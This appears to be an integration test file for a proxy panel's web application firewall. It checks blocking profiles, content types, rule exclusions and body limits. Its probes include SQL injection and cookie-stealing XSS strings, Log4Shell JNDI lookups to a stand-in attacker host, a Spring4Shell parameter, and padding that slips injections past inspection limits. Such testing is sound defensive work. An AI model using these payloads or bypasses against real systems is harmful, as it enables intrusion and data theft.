import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { eventually } from '../support/http'
import { createPublicClientNamespace, type PublicClientNamespace } from '../support/netns'
import { createGroup, createHost, startProxyStack, type ProxyStack } from '../support/proxy-stack'
import { startTestUpstream, type TestUpstream } from '../support/upstream'

// WAF profiles, body limits, content types and rule exclusions, through the production
// Caddy (RE2 operators, the panel's body processors) driven by the panel's configuration,
// from a client on public addresses (a network namespace on 198.51.100.0/24).

const HOST_ADDRESS = '198.51.100.1'
const CLIENT = { probes: '198.51.100.40', types: '198.51.100.41', exclusion: '198.51.100.42', limits: '198.51.100.43' }

let stack: ProxyStack
let up: TestUpstream
let ns: PublicClientNamespace
const hostIds: Record<string, number> = {}

const blocking = { waf_enabled: true, waf_mode: 'blocking', bouncer_enabled: false }
const HOSTS: Array<[string, Record<string, unknown>]> = [
  ['fast.example.test', { ...blocking, waf_profile: 'fast' }],
  ['full.example.test', { ...blocking, waf_profile: 'full' }],
  ['types.example.test', { ...blocking, waf_profile: 'full', waf_allowed_content_types: ['application/json', 'text/plain'] }],
  ['hooks.example.test', { ...blocking, waf_profile: 'full' }],
  ['hooks-other.example.test', { ...blocking, waf_profile: 'full' }],
  [
    'refuse.example.test',
    { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_json_max_depth: 3, waf_body_limit_action: 'refuse' },
  ],
  [
    'partial.example.test',
    { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_body_limit_kb: 4, waf_body_limit_action: 'partial' },
  ],
  ['pass.example.test', { ...blocking, waf_profile: 'fast', waf_body_max_args: 5, waf_body_limit_action: 'pass' }],
]

beforeAll(async () => {
  up = await startTestUpstream()
  ns = await createPublicClientNamespace({ hostAddress: HOST_ADDRESS, clientAddresses: Object.values(CLIENT) })
  stack = await startProxyStack({ httpListenExtra: [HOST_ADDRESS] })
  const group = await createGroup(stack, { name: 'app', targets: [{ address: `127.0.0.1:${up.port}` }] })
  for (const [domain, extra] of HOSTS) {
    const res = await createHost(stack, { domain, target_group_id: group.id, ...extra })
    expect(res.status, res.text).toBe(201)
    expect(res.json.reconcile.status, JSON.stringify(res.json.reconcile)).toBe('applied')
    hostIds[domain] = res.json.id
  }
})
afterAll(async () => {
  await stack?.stop()
  await ns?.destroy()
  await up?.stop()
})

const url = (path: string) => `http://${HOST_ADDRESS}:${stack.httpPort}${path}`
async function send(
  host: string,
  path: string,
  from: string,
  opts: { method?: string; type?: string; body?: string; headers?: string[] } = {},
) {
  const args = ['-H', `Host: ${host}`, ...(opts.headers ?? []).flatMap((h) => ['-H', h])]
  if (opts.body !== undefined)
    args.push('-X', opts.method ?? 'POST', '-H', `Content-Type: ${opts.type ?? 'application/json'}`, '--data-binary', opts.body)
  return (await ns.curl(url(path), args, { fromAddress: from })).status
}
const tagsSeenUpstream = (since: number) => up.requests.slice(since).map((r) => new URL(r.url, 'http://x').searchParams.get('t'))

const wafRows = async () => (await stack.panel.request('/api/logs?source=waf_audit&limit=500', { cookie: stack.admin })).json as any[]
const rowFor = (rows: any[], tag: string) =>
  rows.find((r) => typeof r.path === 'string' && new URL(r.path, 'http://x').searchParams.get('t') === tag)

const SQLI_QUERY = "q=1'%20OR%20'1'='1"
const XSS_QUERY = 'q=%3Cscript%3Ealert(1)%3C/script%3E'
const json = (o: unknown) => JSON.stringify(o)

describe.each(['fast', 'full'])('the %s profile (blocking)', (profile) => {
  const host = `${profile}.example.test`

  it('passes clean traffic and a JSON API body; refuses SQL injection and XSS in the query and in a JSON body', async () => {
    const before = up.requests.length
    expect(await send(host, `/orders?t=${profile}-clean`, CLIENT.probes)).toBe(200)
    expect(
      await send(host, `/orders?t=${profile}-json`, CLIENT.probes, {
        body: json({ items: [{ id: 1, name: 'book', qty: 2 }], note: "it's fine" }),
      }),
    ).toBe(200)
    expect(await send(host, `/search?${SQLI_QUERY}&t=${profile}-sqli`, CLIENT.probes)).toBe(403)
    expect(await send(host, `/search?${XSS_QUERY}&t=${profile}-xss`, CLIENT.probes)).toBe(403)
    expect(
      await send(host, `/orders?t=${profile}-json-sqli`, CLIENT.probes, { body: json({ items: [{ id: 1, name: "1' OR '1'='1" }] }) }),
    ).toBe(403)
    expect(
      await send(host, `/orders?t=${profile}-json-xss`, CLIENT.probes, {
        body: json({ comment: '<script>alert(document.cookie)</script>' }),
      }),
    ).toBe(403)
    // Log4Shell in a header: the panel's virtual patch, in both profiles (the ${ is the attack, not a template).
    expect(
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
      await send(host, `/orders?t=${profile}-log4j`, CLIENT.probes, { headers: ['X-Api-Version: ${jndi:ldap://attacker.test/a}'] }),
    ).toBe(403)
    expect(
      await send(host, `/orders?t=${profile}-log4j-json`, CLIENT.probes, {
        // biome-ignore lint/suspicious/noTemplateCurlyInString: the probe is a literal Log4Shell lookup
        body: json({ user: '${${lower:j}ndi:ldap://attacker.test/a}' }),
      }),
    ).toBe(403)
    expect(
      await send(
        host,
        `/orders?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&t=${profile}-spring`,
        CLIENT.probes,
      ),
    ).toBe(403)
    expect(tagsSeenUpstream(before)).toEqual([`${profile}-clean`, `${profile}-json`])
  })

  it('each refusal is a waf_audit row naming the rule that caught it', async () => {
    const refused = ['sqli', 'xss', 'json-sqli', 'json-xss', 'log4j', 'log4j-json', 'spring']
    const rows = await eventually(wafRows, (r) => refused.every((t) => rowFor(r, `${profile}-${t}`)), 15_000, 200)
    const rule = (t: string) => rowFor(rows, `${profile}-${t}`)?.waf_rule_id
    expect(rule('json-sqli')).toBe(942100)
    expect(rule('json-xss')).toBe(941100)
    if (profile === 'fast') {
      // The panel's virtual patches are the rules that caught these (the full CRS has rules of its own for them too).
      expect(rule('log4j')).toBe(9990201)
      expect(rule('log4j-json')).toBe(9990201)
      expect(rule('spring')).toBe(9990202)
    }
    for (const t of refused) expect(rowFor(rows, `${profile}-${t}`)).toMatchObject({ host_id: hostIds[host], status: 403 })
    expect(rowFor(rows, `${profile}-clean`)).toBeUndefined()
    expect(rowFor(rows, `${profile}-json`)).toBeUndefined()
  })
})

describe('allowed content types', () => {
  it('the CRS default refuses a text/plain webhook (920420); a host that allows text/plain passes it and still refuses other types', async () => {
    expect(await send('full.example.test', '/hook?t=ct-default', CLIENT.types, { type: 'text/plain', body: 'event=push' })).toBe(403)
    expect(await send('types.example.test', '/hook?t=ct-allowed', CLIENT.types, { type: 'text/plain', body: 'event=push' })).toBe(200)
    expect(await send('types.example.test', '/hook?t=ct-json', CLIENT.types, { body: json({ event: 'push' }) })).toBe(200)
    expect(
      await send('types.example.test', '/hook?t=ct-other', CLIENT.types, { type: 'application/x-www-form-urlencoded', body: 'event=push' }),
    ).toBe(403)
    const rows = await eventually(wafRows, (r) => !!rowFor(r, 'ct-default') && !!rowFor(r, 'ct-other'), 15_000, 200)
    expect(rowFor(rows, 'ct-default').waf_rule_id).toBe(920420)
    expect(rowFor(rows, 'ct-other').waf_rule_id).toBe(920420)
  })
})

describe('a rule exclusion made from a waf_audit row', () => {
  const host = 'hooks.example.test'
  const webhook = (tag: string, h = host, path = '/webhook') =>
    send(h, `${path}?t=${tag}`, CLIENT.exclusion, { type: 'text/plain', body: 'delivery' })
  let exclusionId = 0

  it('stops that rule for that host under that path only, and writes an audit row', async () => {
    expect(await webhook('ex-before')).toBe(403)
    const rows = await eventually(wafRows, (r) => !!rowFor(r, 'ex-before'), 15_000, 200)
    const row = rowFor(rows, 'ex-before')
    expect(row).toMatchObject({ waf_rule_id: 920420, host_id: hostIds[host] })

    const res = await stack.panel.request(`/api/logs/${row.id}/waf-exclusion`, { method: 'POST', cookie: stack.admin, body: {} })
    expect(res.status, res.text).toBe(201)
    expect(res.json).toMatchObject({ host_id: hostIds[host], rule_id: 920420, path: '/webhook', argument: null, source_log_id: row.id })
    expect(res.json.reconcile.status).toBe('applied')
    exclusionId = res.json.id

    expect(await webhook('ex-after')).toBe(200)
    expect(await webhook('ex-other-path', host, '/other')).toBe(403)
    expect(await webhook('ex-other-host', 'hooks-other.example.test')).toBe(403)
    // The exclusion removes one rule: the same path still refuses an injection.
    expect(await send(host, `/webhook?${SQLI_QUERY}&t=ex-sqli`, CLIENT.exclusion)).toBe(403)

    const listed = await stack.panel.request(`/api/hosts/${hostIds[host]}/waf-exclusions`, { cookie: stack.admin })
    expect(listed.json.map((e: any) => e.id)).toEqual([exclusionId])
    const audit = (await stack.panel.request('/api/logs?source=audit&limit=200', { cookie: stack.admin })).json as any[]
    const entry = audit.find((a) => a.message === 'waf_exclusion_create')
    expect(JSON.parse(entry.raw)).toMatchObject({
      exclusion_id: exclusionId,
      host_id: hostIds[host],
      rule_id: 920420,
      path: '/webhook',
      source_log_id: row.id,
    })
  })

  it('refuses what it cannot make, naming the fix, and changes nothing', async () => {
    const rows = await wafRows()
    const row = rowFor(rows, 'ex-before')
    const dup = await stack.panel.request(`/api/logs/${row.id}/waf-exclusion`, { method: 'POST', cookie: stack.admin, body: {} })
    expect(dup.status).toBe(409)
    expect(dup.json.error).toMatch(/already excluded/)
    const access = ((await stack.panel.request('/api/logs?source=caddy_access&limit=1', { cookie: stack.admin })).json as any[])[0]
    const wrong = await stack.panel.request(`/api/logs/${access.id}/waf-exclusion`, { method: 'POST', cookie: stack.admin, body: {} })
    expect(wrong.status).toBe(400)
    expect(wrong.json.error).toMatch(/waf_audit rows/)
    const bad = await stack.panel.request(`/api/hosts/${hostIds[host]}/waf-exclusions`, {
      method: 'POST',
      cookie: stack.admin,
      body: { rule_id: 942100, path: '/a" b' },
    })
    expect(bad.status).toBe(400)
    expect(bad.json.error).toMatch(/^path: /)
    const listed = await stack.panel.request(`/api/hosts/${hostIds[host]}/waf-exclusions`, { cookie: stack.admin })
    expect(listed.json).toHaveLength(1)
  })

  it('removed, the rule applies again', async () => {
    const res = await stack.panel.request(`/api/waf-exclusions/${exclusionId}`, { method: 'DELETE', cookie: stack.admin })
    expect(res.status).toBe(204)
    expect(await webhook('ex-removed')).toBe(403)
  })
})

describe('request body limits', () => {
  const values = (n: number, at?: number, payload = "1' OR '1'='1") =>
    json(Object.fromEntries(Array.from({ length: n }, (_, i) => [`f${i}`, i === at ? payload : `value ${i}`])))

  it('refuse: more arguments, or deeper JSON, than the host allows is refused with 413', async () => {
    const host = 'refuse.example.test'
    expect(await send(host, '/api?t=refuse-ok', CLIENT.limits, { body: values(5) })).toBe(200)
    expect(await send(host, '/api?t=refuse-args', CLIENT.limits, { body: values(6) })).toBe(413)
    expect(await send(host, '/api?t=refuse-depth-ok', CLIENT.limits, { body: json({ a: { b: { c: 1 } } }) })).toBe(200)
    expect(await send(host, '/api?t=refuse-depth', CLIENT.limits, { body: json({ a: { b: { c: { d: 1 } } } }) })).toBe(413)
  })

  it('partial: the first arguments and the first bytes are inspected, what lies past them is not', async () => {
    const host = 'partial.example.test'
    expect(await send(host, '/api?t=partial-first', CLIENT.limits, { body: values(8, 0) })).toBe(403)
    expect(await send(host, '/api?t=partial-late', CLIENT.limits, { body: values(8, 7) })).toBe(200)
    // 4 KiB limit: an injection in the first part is caught, one after 5 KB of padding is not.
    const padded = (first: boolean) =>
      json(first ? { a: "1' OR '1'='1", pad: 'x'.repeat(5000) } : { pad: 'x'.repeat(5000), a: "1' OR '1'='1" })
    expect(await send(host, '/api?t=partial-size-first', CLIENT.limits, { body: padded(true) })).toBe(403)
    expect(await send(host, '/api?t=partial-size-late', CLIENT.limits, { body: padded(false) })).toBe(200)
  })

  it('fast profile defaults: every value of a 16 KB JSON body is inspected, the last one too', async () => {
    // An API's order list: 150 objects of 8 values (1,200 values and the array's length), under 16 KiB.
    const order = (note: (i: number) => string) =>
      json({
        items: Array.from({ length: 150 }, (_, i) => ({
          id: i,
          name: `item-${i}`,
          sku: `SKU-${String(i).padStart(4, '0')}`,
          price: 12.5 + i,
          qty: i % 7,
          color: 'red',
          active: true,
          note: note(i),
        })),
      })
    const injected = order((i) => (i === 149 ? "1' OR '1'='1" : 'ok'))
    expect(injected.length).toBeGreaterThan(15_000)
    expect(injected.length).toBeLessThanOrEqual(16 * 1024)
    const host = 'fast.example.test'
    expect(await send(host, '/api?t=fast16k-clean', CLIENT.limits, { body: order(() => 'ok') })).toBe(200)
    expect(await send(host, '/api?t=fast16k-last', CLIENT.limits, { body: injected })).toBe(403)
    const rows = await eventually(wafRows, (r) => !!rowFor(r, 'fast16k-last'), 15_000, 200)
    expect(rowFor(rows, 'fast16k-last')).toMatchObject({ host_id: hostIds[host], waf_rule_id: 942100, status: 403 })
  })

  it('pass: a body over the limit is not inspected at all; within it, it is', async () => {
    const host = 'pass.example.test'
    expect(await send(host, '/api?t=pass-over', CLIENT.limits, { body: values(6, 0) })).toBe(200)
    expect(await send(host, '/api?t=pass-within', CLIENT.limits, { body: values(5, 0) })).toBe(403)
  })
})

describe('host settings', () => {
  it('the catalogue lists the profiles with their defaults and the families the form offers', async () => {
    const res = await stack.panel.request('/api/waf/catalogue', { cookie: stack.admin })
    expect(res.status).toBe(200)
    expect(res.json.profiles).toContainEqual({
      id: 'fast',
      body_limit_kb: 16,
      body_max_args: null,
      json_max_depth: 16,
      body_limit_action: 'partial',
    })
    expect(res.json.families.map((f: any) => f.id)).toEqual(['sqli', 'xss', 'lfi', 'rce', 'php', 'java', 'protocol'])
    expect(res.json.crs_default_content_types).not.toContain('text/plain')
  })

  it("a host's own argument limit is kept, and every push's answer warns about what it leaves uninspected", async () => {
    const id = hostIds['partial.example.test']!
    const current = (await stack.panel.request(`/api/hosts/${id}`, { cookie: stack.admin })).json
    expect(current.waf_body_max_args).toBe(5)
    // What the host's answer adds beside its fields (read-only) is left out of the PUT.
    const { id: _, created_at: _c, updated_at: _u, certificate: _cert, custom_handler_count: _n, health: _h, ...body } = current
    const res = await stack.panel.request(`/api/hosts/${id}`, {
      method: 'PUT',
      cookie: stack.admin,
      body: { ...body, waf_body_max_args: 300 },
    })
    expect(res.status, res.text).toBe(200)
    expect(res.json.waf_body_max_args).toBe(300)
    expect(res.json.reconcile.status).toBe('applied')
    const warnings: string[] = res.json.reconcile.warnings ?? []
    expect(warnings).toContain(
      'host partial.example.test: its WAF argument limit is 300 values of a request body: the values after the first 300 are not inspected, so an attack placed after 300 harmless values gets through. Clear the limit to inspect every value, or refuse a body over it',
    )
    expect(warnings.find((w) => w.startsWith('host pass.example.test:'))).toMatch(/a body with more is not inspected at all/)
    // Hosts on the defaults, or refusing past their limit, leave nothing uninspected.
    for (const other of ['fast.example.test', 'full.example.test', 'refuse.example.test'])
      expect(warnings.filter((w) => w.startsWith(`host ${other}:`))).toEqual([])
    const back = await stack.panel.request(`/api/hosts/${id}`, { method: 'PUT', cookie: stack.admin, body })
    expect(back.status, back.text).toBe(200)
  })

  it('deleting a host deletes its exclusions', async () => {
    const group = (await stack.panel.request('/api/target-groups', { cookie: stack.admin })).json[0]
    const created = await createHost(stack, { domain: 'gone.example.test', target_group_id: group.id, ...blocking })
    const ex = await stack.panel.request(`/api/hosts/${created.json.id}/waf-exclusions`, {
      method: 'POST',
      cookie: stack.admin,
      body: { rule_id: 942100, path: '/x' },
    })
    expect(ex.status, ex.text).toBe(201)
    expect((await stack.panel.request(`/api/hosts/${created.json.id}`, { method: 'DELETE', cookie: stack.admin })).status).toBe(204)
    const rows = await stack.panel
      .db()
      .execute({ sql: 'SELECT count(*) AS n FROM waf_exclusions WHERE host_id = ?', args: [created.json.id] })
    expect(Number(rows.rows[0]!.n)).toBe(0)
  })

  it('bad WAF settings get a 400 naming the field, and change nothing', async () => {
    const id = hostIds['fast.example.test']!
    const current = (await stack.panel.request(`/api/hosts/${id}`, { cookie: stack.admin })).json
    const { id: _, created_at: _c, updated_at: _u, certificate: _cert, ...body } = current
    for (const [field, value, message] of [
      ['waf_profile', 'turbo', /waf_profile: must be "fast" or "full"/],
      ['waf_families', ['sqli', 'cobol'], /waf_families\.1: must be one of/],
      ['waf_allowed_content_types', ['text/plain; charset=utf-8'], /waf_allowed_content_types\.0: must be a media type/],
      ['waf_body_max_args', 0, /waf_body_max_args: must be at least 1/],
      ['waf_body_limit_action', 'drop', /waf_body_limit_action: must be "partial", "pass" or "refuse"/],
    ] as const) {
      const res = await stack.panel.request(`/api/hosts/${id}`, { method: 'PUT', cookie: stack.admin, body: { ...body, [field]: value } })
      expect(res.status, field).toBe(400)
      expect(res.json.error).toMatch(message)
    }
    expect((await stack.panel.request(`/api/hosts/${id}`, { cookie: stack.admin })).json).toEqual(current)
  })

  it('a PUT that leaves the WAF fields out keeps them', async () => {
    const id = hostIds['types.example.test']!
    const current = (await stack.panel.request(`/api/hosts/${id}`, { cookie: stack.admin })).json
    const res = await stack.panel.request(`/api/hosts/${id}`, {
      method: 'PUT',
      cookie: stack.admin,
      body: { domain: current.domain, target_group_id: current.target_group_id, tls_mode: 'none' },
    })
    expect(res.status, res.text).toBe(200)
    expect(res.json).toMatchObject({ waf_profile: 'full', waf_allowed_content_types: ['application/json', 'text/plain'] })
  })
})
